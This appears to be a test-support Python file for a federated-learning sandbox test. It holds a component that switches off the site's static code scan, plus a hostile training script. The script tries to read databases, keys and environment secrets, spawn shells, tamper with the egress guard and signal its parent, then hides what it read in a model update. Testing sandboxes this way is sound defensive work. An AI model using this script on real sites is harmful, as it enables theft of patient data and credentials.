"""Test-only pieces for the BYOC sandbox end-to-end test (not a test module).

:class:`ScanOff` is an NVFlare component the test adds to each site's ``local/resources.json``: in the site's
processes it replaces the site's verdict with the policy rules alone, judged with NO static scan findings, so a
job whose code the scan would deny reaches the runtime sandbox. It exists only under ``tests/``.

:data:`ATTACK_SCRIPT` is the hostile training script: it tries each forbidden action, prints one JSON line of
outcomes (``ok`` or the exception's class name), and then sends an ordinary-looking update that carries whatever
it managed to read.
"""

from __future__ import annotations

import threading

from nvflare.apis.fl_component import FLComponent
from nvflare.apis.fl_context import FLContext

_patched = threading.Event()


class ScanOff(FLComponent):  # type: ignore[misc]  # nvflare is untyped
    """Judge jobs at this site by the policy rules only, without the static scan (tests only)."""

    def handle_event(self, event_type: str, fl_ctx: FLContext) -> None:
        if _patched.is_set():
            return
        from fednode.clock import utc_now
        from node.site.context import get_site_context
        from node.site.live_state import site_rules
        from policies.contracts import Finding, JobManifest, Verdict
        from policies.verdicts import SiteState, evaluate

        context = get_site_context()
        policy = context.policy
        if policy is None:
            return
        live = getattr(context.evaluate, "__self__", None)  # the LiveSiteState whose judge() it is

        def no_findings(_job: JobManifest, _components: frozenset[str]) -> tuple[Finding, ...]:
            return ()

        def no_scan(job: JobManifest) -> Verdict:
            state = live.snapshot() if live is not None else SiteState(policy=policy, now=utc_now())
            return evaluate(job, state, extra_rules=site_rules(), scan=no_findings)

        context.evaluate = no_scan
        _patched.set()


ATTACK_SCRIPT = r'''
"""A BYOC job that tries everything the sandbox forbids (the scan is off in this test)."""
import argparse, json, os, signal, socket, subprocess, sys

import numpy as np
import nvflare.client as flare

p = argparse.ArgumentParser()
p.add_argument("--home")
p.add_argument("--key")
p.add_argument("--other_job")
p.add_argument("--guard")
p.add_argument("--server_port", type=int)
a = p.parse_args()
loot = bytearray()
out = {}


def attempt(name, fn):
    try:
        got = fn()
        out[name] = "ok"
        if isinstance(got, (bytes, bytearray)):
            loot.extend(got)
        elif isinstance(got, str):
            loot.extend(got.encode())
    except BaseException as exc:  # noqa
        out[name] = type(exc).__name__


def read(path):
    with open(path, "rb") as fh:
        return fh.read()


def connect(host, port):
    s = socket.socket()
    s.settimeout(3)
    try:
        s.connect((host, port))
        return b"connected"
    finally:
        s.close()


def write(path):
    with open(path, "w") as fh:
        fh.write("pwned")


def patch_guard():
    with open(a.guard, "a") as fh:
        fh.write("\nEgressGuard = None\n")


attempt("connect_coordinator", lambda: connect("127.0.0.1", a.server_port))
attempt("connect_internet", lambda: connect("192.0.2.1", 443))
attempt("read_omop_db", lambda: read(os.path.join(a.home, "omop.db")))
attempt("read_state_db", lambda: read(os.path.join(a.home, "state.db")))
attempt("read_site_key", lambda: read(a.key))
attempt("list_keys", lambda: "".join(os.listdir(os.path.join(a.home, "keys"))))
attempt("read_other_job", lambda: read(a.other_job))
attempt("spawn_shell", lambda: subprocess.run(["/bin/sh", "-c", "id"], capture_output=True, check=True).stdout)
def system():
    if os.system("id > /dev/null") != 0:
        raise ChildProcessError("the shell did not run")
    return b"ran"


attempt("os_system", system)
attempt("read_parent_environ", lambda: read(f"/proc/{os.getppid()}/environ"))
def env_secrets():
    found = "".join(f"{k}={v}" for k, v in os.environ.items() if "FEDNODE_" in k and "SANDBOX" not in k)
    if not found:
        raise LookupError("no secrets in the environment")
    return found


attempt("env_secrets", env_secrets)
attempt("write_outside_folder", lambda: write(os.path.join(os.path.dirname(os.getcwd()), "pwned.txt")))
attempt("write_tmp", lambda: write("/tmp/fednode-byoc-pwned.txt"))
attempt("write_site_home", lambda: write(os.path.join(a.home, "pwned.txt")))
attempt("patch_egress_guard", patch_guard)
attempt("signal_job_process", lambda: os.kill(os.getppid(), signal.SIGSTOP))
print("FEDNODE_ATTACK " + json.dumps(out, sort_keys=True), flush=True)

flare.init()
while flare.is_running():
    model = flare.receive()
    if model is None:
        break
    params = {k: np.asarray(v, dtype=np.float32) for k, v in (model.params or {}).items()}
    if loot:  # smuggle what was read in the update itself
        params["loot"] = np.frombuffer(bytes(loot), dtype=np.uint8).astype(np.float32)
    flare.send(flare.FLModel(params=params, metrics={"leaked": float(len(loot))}, meta={"NUM_STEPS_CURRENT_ROUND": 1}))
'''
